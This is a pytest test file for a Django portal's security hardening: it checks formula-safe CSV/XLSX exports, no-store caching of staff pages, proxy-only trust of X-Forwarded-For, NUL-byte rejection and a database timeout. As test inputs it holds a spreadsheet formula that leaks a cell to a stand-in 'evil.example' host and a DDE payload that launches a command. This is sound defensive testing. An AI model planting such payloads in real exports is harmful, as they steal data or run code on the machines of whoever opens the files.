"""Exports are bounded and safe to open in Excel; staff responses are never cached; the
access log names the peer and trusts X-Forwarded-For only from the configured proxies."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client, override_settings

from pcc_portal import exports
from pcc_portal.access_log import forwarded_client
from pcc_portal.exports import spreadsheet_safe
from tests.factories import MeasureFactory, ObservationFactory
from tests.funds.factories import GrantFactory, OrganisationFactory
from tests.panel.factories import DecisionFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1772 533587", "'+44 1772 533587"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Burglary", "Burglary"),
        (Decimal("-12.5"), Decimal("-12.5")),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe_makes_formula_text_and_leaves_numbers(value, expected):
    assert spreadsheet_safe(value) == expected


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_list_csv_writes_formula_cells_as_text_and_numbers_as_numbers():
    measure = MeasureFactory(name=FORMULA)
    ObservationFactory(measure=measure, value=Decimal("22859"))
    rows = _csv(Client().get("/performance/observations/", {"_export": "csv"}))
    flat = [cell for row in rows for cell in row]
    assert "'" + FORMULA in flat
    assert FORMULA not in flat
    assert "22859" in flat or "22859.0000" in flat


def test_list_xlsx_never_stores_a_formula():
    GrantFactory(title=FORMULA, organisation=OrganisationFactory(name="@Evil Ltd"))
    DecisionFactory(title="+cmd|' /C calc'!A0")
    for url in ("/funds/grants/", "/panel/decisions/"):
        response = Client().get(url, {"_export": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert cells, url
        assert not [c.value for c in cells if c.data_type == "f"], url
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(exports.FORMULA_TRIGGERS)], (url, texts)


def test_grant_amounts_stay_numbers_in_xlsx():
    GrantFactory(amount_awarded=Decimal("1250.00"))
    sheet = openpyxl.load_workbook(
        io.BytesIO(Client().get("/funds/grants/", {"_export": "xlsx"}).content)
    ).active
    numbers = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "n"]
    assert 1250 in numbers


def test_threesixty_csv_and_open_data_csv_are_safe():
    GrantFactory(title=FORMULA)
    ObservationFactory(measure=MeasureFactory(name="-1+cmd"))
    grants = [c for row in _csv(Client().get("/funds/360giving.csv")) for c in row]
    assert "'" + FORMULA in grants and FORMULA not in grants
    open_data = [
        c for row in _csv(Client().get("/performance/open-data/observations.csv")) for c in row
    ]
    assert "'-1+cmd" in open_data and "-1+cmd" not in open_data


def test_export_row_cap_says_so_in_the_file(monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_ROW_CAP", 3)
    measure = MeasureFactory()
    for year in range(2010, 2016):
        ObservationFactory(
            measure=measure,
            period_start=f"{year}-04-01",
            period_end=f"{year + 1}-03-31",
        )
    rows = _csv(Client().get("/performance/observations/", {"_export": "csv"}))
    assert len(rows) == 1 + 3 + 1
    assert rows[-1][0].startswith("This file holds the first 3 rows only.")
    sheet = openpyxl.load_workbook(
        io.BytesIO(Client().get("/performance/observations/", {"_export": "xlsx"}).content)
    ).active
    values = [row[0].value for row in sheet.iter_rows()]
    assert len(values) == 5 and values[-1].startswith("This file holds the first 3 rows only.")


def test_open_data_csv_is_streamed():
    ObservationFactory()
    response = Client().get("/performance/open-data/observations.csv")
    assert response.streaming


# Cache-Control -------------------------------------------------------------------------------


def test_staff_pages_and_exports_are_private_no_store(officer_client):
    ObservationFactory()
    for url, query in [
        ("/performance/observations/", {"drafts": "1"}),
        ("/performance/observations/", {"drafts": "1", "_export": "csv"}),
        ("/admin/performance/observation/", {}),
        ("/performance/", {}),
    ]:
        response = officer_client.get(url, query)
        assert response["Cache-Control"] == "private, no-store", (url, query)


def test_public_pages_are_not_marked_no_store():
    response = Client().get("/performance/observations/")
    assert "no-store" not in response.get("Cache-Control", "")


# Access log ------------------------------------------------------------------------------------


def test_forwarded_client_is_trusted_only_from_a_configured_proxy():
    assert forwarded_client("10.0.0.5", "1.2.3.4, 203.0.113.9", ["10.0.0.5"]) == "203.0.113.9"
    assert forwarded_client("10.0.0.5", "203.0.113.9", ["10.0.0.0/24"]) == "203.0.113.9"
    assert forwarded_client("198.51.100.7", "203.0.113.9", ["10.0.0.5"]) == "-"
    assert forwarded_client("10.0.0.5", "", ["10.0.0.5"]) == "-"


def test_gunicorn_config_logs_the_peer_and_the_trusted_client():
    from pathlib import Path

    config = {}
    path = Path(__file__).resolve().parents[2] / "gunicorn.conf.py"
    exec(compile(path.read_text(), str(path), "exec"), config)
    assert config["logger_class"] == "pcc_portal.access_log.AccessLogger"
    assert "peer=%(h)s" in config["access_log_format"]
    assert "client=%(client)s" in config["access_log_format"]
    assert "x-forwarded-for" not in config["access_log_format"]


# NUL bytes ---------------------------------------------------------------------------------


def test_a_nul_byte_in_a_form_is_a_bad_request(officer_client):
    response = officer_client.post("/admin/performance/observation/add/", {"note": "a\x00b"})
    assert response.status_code == 400


@override_settings(WEB_STATEMENT_TIMEOUT_SECONDS=2)
def test_statement_timeout_is_set_only_by_the_web_process():
    from django.db import connection
    from django.db.backends.signals import connection_created

    from pcc_portal import hardening

    # Only pcc_portal.wsgi connects it: the test process (like any command) has no limit.
    uids = [key[0] for key, *_ in connection_created.receivers]
    assert "pcc-web-statement-timeout" not in uids
    if connection.vendor != "postgresql":
        pytest.skip("statement_timeout is PostgreSQL's")
    hardening._set_statement_timeout(sender=None, connection=connection)
    with connection.cursor() as cursor:
        cursor.execute("SHOW statement_timeout")
        assert cursor.fetchone()[0] == "2s"
        cursor.execute("SET statement_timeout = 0")
